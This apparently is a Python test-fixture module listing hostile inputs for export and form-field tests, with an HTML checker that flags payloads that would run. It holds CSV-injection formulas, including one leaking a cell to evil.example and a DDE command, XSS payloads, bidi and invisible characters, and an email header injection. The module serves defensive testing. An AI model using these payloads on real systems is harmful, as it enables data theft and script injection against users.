"""Hostile values shared by the tests of every export and user-filled field."""

# Cells a spreadsheet would run as formulas or DDE commands (OWASP "CSV injection"),
# also behind leading whitespace.
FORMULAS = [
    "=1+2",
    "+1+2",
    "-1+2",
    "@SUM(A1:A2)",
    '=HYPERLINK("http://evil.example/?leak="&A1,"Bấm vào đây")',
    "=cmd|' /C calc'!A0",
    "\t=1+2",
    "\r=1+2",
    "  =1+2",
    "\n@SUM(A1)",
]

# Every other hostile value carries this mark, so that a test can tell its own payload
# from the page's markup.
MARK = "XSS1337"

# Markup that would run in a browser if it reached a page unescaped: script tags, event
# handlers, javascript: URLs, SVG, frames, and the same again entity- or URL-encoded (which
# must stay text, not be decoded into markup), and template syntax.
MARKUP = [
    f'<script>alert("{MARK}")</script>',
    f'"><script>{MARK}()</script>',
    f"'><img src=x onerror={MARK}()>",
    f'<a href="javascript:{MARK}()">Bấm</a>',
    f"javascript:{MARK}()",
    f" JaVaScRiPt:{MARK}()",
    f'<svg onload="{MARK}()"><circle r="1"/></svg>',
    f"<svg><script>{MARK}()</script></svg>",
    f'<iframe srcdoc="<script>{MARK}()</script>"></iframe>',
    f"&lt;script&gt;{MARK}()&lt;/script&gt;",
    f"&#60;img src=x onerror={MARK}()&#62;",
    f"%3Cscript%3E{MARK}()%3C%2Fscript%3E",
    f"<scr<script>ipt>{MARK}()</script>",
    f'<div style="background:url(javascript:{MARK}())">x</div>',
    f"{{{{ {MARK} }}}} {{% debug %}} ${{{MARK}}}",
]

# Text-direction overrides and isolates, zero-width and control characters, and a header
# injection: names refuse them with a message, free text keeps them as text.
BIDI_AND_INVISIBLE = [
    f"{MARK}\u202egnp.exe",
    f"\u2066{MARK}\u2069",
    f"A\u200bB\u200c{MARK}\u200d\ufeff",
    f"{MARK}\x00\x07\x1b[31m",
    f"{MARK}\r\nBcc: victim@example.com",
]

# Long values: at and far past every field's limit.
LONG = [
    "Đ" * 10_000,
    f"<b>{MARK}</b>" * 1_000,
]

ALL = MARKUP + FORMULAS + BIDI_AND_INVISIBLE + LONG


def executable_marks(html: str) -> list[str]:
    """Where `html` would run one of our payloads: a script holding MARK, an on* handler,
    a javascript: URL, a srcdoc, or an SVG/IMG/IFRAME element carrying MARK. Empty when
    every payload came back as text."""
    from html.parser import HTMLParser

    found: list[str] = []

    class Checker(HTMLParser):
        in_script = False

        def handle_starttag(self, tag, attrs):
            for name, value in attrs:
                value = value or ""
                if MARK not in value and MARK not in name:
                    continue
                if name.startswith("on") or name == "srcdoc":
                    found.append(f"<{tag} {name}=…>")
                if value.strip().lower().startswith("javascript:") and name in (
                    "href",
                    "src",
                    "action",
                    "formaction",
                ):
                    found.append(f"<{tag} {name}=javascript:…>")
                if "javascript:" in value.lower() and name == "style":
                    found.append(f"<{tag} style=javascript:…>")
            if tag in ("svg", "img", "iframe", "script") and any(
                MARK in (v or "") for _n, v in attrs
            ):
                found.append(f"<{tag}>")
            self.in_script = tag == "script"

        def handle_endtag(self, tag):
            if tag == "script":
                self.in_script = False

        def handle_data(self, data):
            if self.in_script and MARK in data:
                found.append("<script>…MARK…</script>")

    Checker().feed(html)
    return found
